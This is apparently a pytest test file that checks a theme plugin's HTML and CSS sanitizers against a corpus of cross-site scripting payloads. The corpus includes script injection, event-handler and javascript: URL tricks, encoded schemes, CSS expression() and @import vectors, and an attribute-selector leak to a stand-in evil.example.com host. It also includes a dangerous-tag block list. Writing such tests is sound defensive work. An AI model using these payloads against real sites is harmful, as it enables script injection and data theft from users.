"""The XSS corpus: every payload must come out inert, stored and rendered.

HTML payloads go through the API (sanitized on save) and the public page (rendered); CSS
payloads go through the theme's custom CSS and /p/{org}/theme.css. The checks parse the
output rather than grep for one spelling, so an attribute that survives under another
spelling still fails the test.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from vetrai.plugins.themes.sanitize import sanitize_css, sanitize_html, validate_color, validate_font_family

from .conftest import THEME

HTML_PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=https://evil.example.com/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="window.__xss=1">',
    "<img src=x onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    '<img src="x" ONERROR="alert(1)">',
    '<img """><script>alert(1)</script>">',
    '<body onload="alert(1)">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="https://evil.example.com"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example.com/x.swf"></object>',
    '<embed src="https://evil.example.com/x.swf">',
    '<form action="https://evil.example.com"><input name="password"><button '
    'formaction="javascript:alert(1)">go</button></form>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">x</div>',
    '<p style="color: red; background: url(https://evil.example.com/t.png)">x</p>',
    "<style>body { background: url(javascript:alert(1)) }</style>",
    "</style><script>alert(1)</script>",
    '<link rel="stylesheet" href="https://evil.example.com/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example.com/">',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '<marquee onstart="alert(1)">x</marquee>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<a href="https://ok.example.com" onmouseover="alert(1)" target="_blank">ok</a>',
    '<div id="x" class="y" data-x="1" onclick="alert(1)" tabindex="1" autofocus onfocus="alert(1)">z</div>',
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
]

CSS_PAYLOADS = [
    "@import url(https://evil.example.com/x.css);",
    "@import 'https://evil.example.com/x.css';",
    "body { background: url(javascript:alert(1)) }",
    "body { background: url('https://evil.example.com/track.png') }",
    "body { background-image: url(data:image/svg+xml;base64,PHN2Zz4=) }",
    "body { width: expression(alert(1)) }",
    "body { width: \\65 xpression(alert(1)) }",
    "body { behavior: url(x.htc) }",
    "body { -moz-binding: url(https://evil.example.com/x.xml#x) }",
    "</style><script>alert(1)</script>",
    "body { content: '</style><script>alert(1)</script>' }",
    "body { font-family: '</style><script>alert(1)</script>' }",
    "@font-face { font-family: x; src: url(https://evil.example.com/f.woff) }",
    "@namespace svg url(http://www.w3.org/2000/svg);",
    "body { background: \\75 rl(https://evil.example.com/x.png) }",
    "body { --x: url(https://evil.example.com/x.png); background: var(--x) }",
    "input[value^='a'] { background: url(https://evil.example.com/?a) }",
    "@media screen { body { background: url(https://evil.example.com/x.png) } }",
    "body { background: image-set('https://evil.example.com/x.png' 1x) }",
    "body { color: red; } <img src=x onerror=alert(1)>",
    "a { color: red } @charset 'utf-8'; @page { margin: 0 }",
    "body { color: red; /* */ } /* </style><script>alert(1)</script> */",
]

DANGEROUS_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "textarea",
    "link",
    "meta",
    "base",
    "template",
    "noscript",
    "video",
    "source",
    "marquee",
    "xmp",
    "body",
    "select",
}
SAFE_SCHEMES = ("http:", "https:", "mailto:", "tel:")


class Inspector(HTMLParser):
    def __init__(self, allowed: frozenset[str] = frozenset()) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed = allowed
        self.problems: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag in DANGEROUS_TAGS and tag not in self.allowed:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in {
                "srcdoc",
                "formaction",
                "xlink:href",
                "action",
                "data",
                "tabindex",
                "autofocus",
            }:
                self.problems.append(f"attribute {name}")
            if name in {"href", "src", "cite"}:
                url = re.sub(r"[\x00-\x20]+", "", html.unescape(value)).lower()
                scheme = re.match(r"^[a-z][a-z0-9+.-]*:", url)
                if scheme and not url.startswith(SAFE_SCHEMES):
                    self.problems.append(f"{name}={value!r}")
            if name == "style" and re.search(r"url\(|expression|javascript|behavior|binding|position", value, re.I):
                self.problems.append(f"style={value!r}")
            if name == "rel" and tag == "a" and value != "noopener noreferrer":
                self.problems.append(f"rel={value!r}")


def inspect(markup: str, allowed: frozenset[str] = frozenset()) -> Inspector:
    inspector = Inspector(allowed)
    inspector.feed(markup)
    inspector.close()
    return inspector


def problems_in(markup: str) -> list[str]:
    return inspect(markup).problems


def test_the_corpus_is_big_enough():
    assert len(HTML_PAYLOADS) + len(CSS_PAYLOADS) >= 30
    assert len(HTML_PAYLOADS) >= 30


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_html_payload_is_inert_after_sanitizing(payload):
    cleaned = sanitize_html(payload)
    assert problems_in(cleaned) == [], cleaned
    assert sanitize_html(cleaned) == cleaned  # idempotent: re-cleaning on output changes nothing
    # inert also when wrapped in the page (no breaking out of the surrounding markup)
    assert problems_in(f"<div>{cleaned}</div>") == []


@pytest.mark.parametrize("payload", CSS_PAYLOADS)
def test_css_payload_is_inert_after_sanitizing(payload):
    cleaned = sanitize_css(payload)
    lowered = cleaned.lower()
    for bad in (
        "@import",
        "url(",
        "expression",
        "behavior",
        "binding",
        "<",
        "javascript",
        "\\",
        "@font-face",
        "@namespace",
        "image-set",
        "evil",
    ):
        assert bad not in lowered, (payload, cleaned)


def test_safe_css_survives():
    css = (
        ":root { --brand: #123456; }\n"
        "h1, .vt-title > span:not(.x) { color: var(--brand) !important; text-transform: uppercase; }\n"
        "a[href^='https'] { text-decoration: underline; }\n"
        ".hero { background: linear-gradient(90deg, rgba(0, 0, 0, 0.5), #fff); padding: calc(1rem + 2px); }\n"
        ".logo { background-image: url('/p/acme/assets/logo-abc123.png'); }\n"
        "@media (max-width: 600px) { .hero { padding: 0; } }\n"
        "@keyframes pulse { from { opacity: 0.5; } to { opacity: 1; } }\n"
    )
    cleaned = sanitize_css(css)
    for kept in (
        "--brand: #123456;",
        "color: var(--brand) !important;",
        "text-transform: uppercase;",
        "text-decoration: underline;",
        "linear-gradient(90deg, rgba(0, 0, 0, 0.5), #fff)",
        "padding: calc(1rem + 2px);",
        'url("/p/acme/assets/logo-abc123.png")',
        "@media (max-width: 600px)",
        "@keyframes pulse",
    ):
        assert kept in cleaned, kept


@pytest.mark.parametrize(
    "value",
    [
        "red",
        "#12",
        "#1234567",
        "rgb(1,2)",
        "rgb(300, 0, 0)",
        "#fff; background: url(x)",
        "expression(alert(1))",
        "var(--x)",
        "</style>",
        "hsl(0, 0%, 0%)",
    ],
)
def test_colors_are_refused(value):
    with pytest.raises(ValueError):
        validate_color(value)


@pytest.mark.parametrize(
    "value",
    [
        "x; } body { background: red",
        "'a</style>'",
        '"a"b"',
        "NotAFont",
        "url(x)",
        "a, , b",
        "sans-serif," * 9,
        "'unterminated",
    ],
)
def test_fonts_are_refused(value):
    with pytest.raises(ValueError):
        validate_font_family(value)


async def test_corpus_through_the_api_and_the_rendered_page(client, make_user):
    admin = await make_user("org_admin")
    slug = admin.organization.slug
    content = "\n".join(HTML_PAYLOADS)
    title = '"><script>window.__xss=1</script>'
    response = await client.post(
        "/api/v1/themes/pages",
        json={
            "slug": "xss",
            "title": title,
            "content": content,
            "is_published": True,
            "meta_description": '"><img src=x onerror=alert(1)>',
        },
        headers=admin.headers,
    )
    assert response.status_code == 201
    assert problems_in((await response.get_json())["content"]) == []
    page = await client.get(f"/p/{slug}/xss")
    assert page.status_code == 200
    rendered = await page.get_data(as_text=True)
    # the document's own <meta>, <link> and <body> are the template's: exactly these many
    document = inspect(rendered, allowed=frozenset({"meta", "link", "body"}))
    assert document.problems == [], document.problems
    assert document.tags.count("meta") == 4 and document.tags.count("link") == 1 and document.tags.count("body") == 1
    assert re.search(rf'<link rel="stylesheet" href="/p/{slug}/theme\.css\?v=[0-9a-f]+">', rendered)
    assert "&lt;script&gt;window.__xss=1&lt;/script&gt;" in rendered  # the title is text
    css = "\n".join(CSS_PAYLOADS)
    saved = await client.post("/api/v1/themes", json={**THEME, "custom_css": css}, headers=admin.headers)
    assert saved.status_code == 201
    served = await (await client.get(f"/p/{slug}/theme.css")).get_data(as_text=True)
    for bad in ("@import", "expression", "behavior", "binding", "<", "javascript", "evil"):
        assert bad not in served.lower(), bad


def test_safe_html_survives_and_in_page_links_follow_prefixed_ids():
    source = (
        '<h2 id="faq">FAQ</h2><p>See <a href="#faq">the FAQ</a>, <a href="mailto:hi@example.com">mail</a> or '
        '<a href="/p/acme/pricing">pricing</a>.</p><table><tr><th scope="col">A</th></tr><tr><td '
        'colspan="2">1</td></tr></table>'
        '<img src="https://img.example.com/a.png" alt="A" width="10" height="abc"><blockquote cite="https://example.com">q</blockquote>'
    )
    cleaned = sanitize_html(source)
    assert '<h2 id="content-faq">FAQ</h2>' in cleaned
    assert '<a href="#content-faq" rel="noopener noreferrer">the FAQ</a>' in cleaned
    assert '<a href="mailto:hi@example.com" rel="noopener noreferrer">mail</a>' in cleaned
    assert '<a href="/p/acme/pricing" rel="noopener noreferrer">pricing</a>' in cleaned
    assert '<th scope="col">A</th>' in cleaned and '<td colspan="2">1</td>' in cleaned
    assert '<img src="https://img.example.com/a.png" alt="A" width="10">' in cleaned  # height="abc" dropped
    assert '<blockquote cite="https://example.com">q</blockquote>' in cleaned
